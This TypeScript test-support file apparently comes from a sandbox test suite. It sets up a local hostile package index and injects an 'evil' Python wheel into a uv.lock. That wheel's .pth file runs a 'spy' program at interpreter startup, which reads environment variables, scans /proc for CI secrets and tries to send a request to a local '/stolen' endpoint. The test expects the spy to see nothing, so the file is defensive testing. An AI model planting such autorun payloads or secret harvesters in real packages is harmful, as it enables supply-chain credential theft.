import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { sha256, startFileServer } from '../../support/files/server.ts';
import { wheelBytes } from '../../support/nix/wheel.ts';
import type { ActOptions } from '../../support/scenario/world.ts';

type Prepare = NonNullable<ActOptions['prepare']>;

/** An index that serves wheels of an attacker, and counts what it is asked. */
export interface HostileIndex {
  readonly origin: string;
  readonly requests: string[];
  /**
   * Locks one more wheel into a checkout.
   * @param files of the wheel besides its module
   */
  readonly locked: (files: Readonly<Record<string, string>>) => Prepare;
  /** Serves a file, and returns its address. */
  readonly served: (filename: string, bytes: Uint8Array) => string;
  readonly close: () => Promise<void>;
}

export async function startHostileIndex(): Promise<HostileIndex> {
  const server = await startFileServer();
  let count = 0;
  return {
    ...{ origin: server.origin, requests: server.requests, close: server.close },
    served: (filename, bytes) => server.wheel(filename, bytes).url ?? '',
    locked: (files) => async (workspace) => {
      const bytes = wheelBytes('evil', 'evil', files);
      const { url = '' } = server.wheel(`${++count}/evil-1.0-py3-none-any.whl`, bytes);
      await lockIn(workspace, 'evil', url, `wheels = [{ url = "${url}", hash = "sha256:${sha256(bytes)}" }]`);
    },
  };
}

/** Adds a package at an address to the lock, and to what the project depends on. */
export async function lockIn(workspace: string, name: string, url: string, more: string): Promise<void> {
  await change('uv.lock', (text) => {
    const added = text.replace(
      /(source = \{ virtual = "\." \}\ndependencies = \[\n)/,
      `$1    { name = "${name}" },\n`,
    );
    return `${added}\n[[package]]\nname = "${name}"\nversion = "1.0"\nsource = { url = "${url}" }\n${more}\n`;
  })(workspace);
}

/** Changes a file of a checkout. */
export const change =
  (file: string, edit: (text: string) => string): Prepare =>
  async (workspace) => {
    const full = path.join(workspace, file);
    const before = await readFile(full, 'utf8');
    const after = edit(before);
    if (after === before) throw new Error(`${file} is not as expected`);
    await writeFile(full, after);
  };

/**
 * Files of a wheel whose `.pth` file runs a program when Python starts, and only in the import
 * check.
 */
export const atImport = (program: string): Record<string, string> => ({
  'evil.pth': 'import evil_extra\n',
  'evil_extra.py': `import sys\nif "import six" in sys.orig_argv:\n${program.trim().replace(/^/gm, '    ')}\n`,
});

/** A program that prints what it sees as one line of JSON, and fails. */
export const spy = (origin: string, folder: string): string => `
import glob, json, os, socket
def text(file):
    try:
        return open(file, errors="replace").read()
    except OSError:
        return ""
def asks():
    try:
        socket.create_connection(("127.0.0.1", ${new URL(origin).port}), 2).sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
        return True
    except OSError:
        return False
hosts = ["/usr", "/lib", "/lib64", "/bin", "/home", "/root", "/srv", "/etc/nix", "${folder}"]
sys.stderr.write("SEEN " + json.dumps({
    "environment": sorted(os.environ),
    "secrets": [word for file in glob.glob("/proc/*/environ") for word in ("INPUT_", "ACTIONS_", "GITHUB_", "canary-") if word in text(file)],
    "host": [one for one in hosts if os.path.lexists(one)],
    "folder": os.listdir("."),
    "network": asks(),
}) + "\\n")
os._exit(3)
`;

/** What \`spy\` printed, from a log. */
export function seenIn(log: string): unknown {
  const line = /SEEN (\{.*\})/.exec(log)?.[1];
  return line === undefined ? undefined : JSON.parse(line);
}

/** What is to be seen from inside of an import: nothing. */
export const nothingSeen = {
  ...{ environment: [], secrets: [], host: [], folder: [], network: false },
};
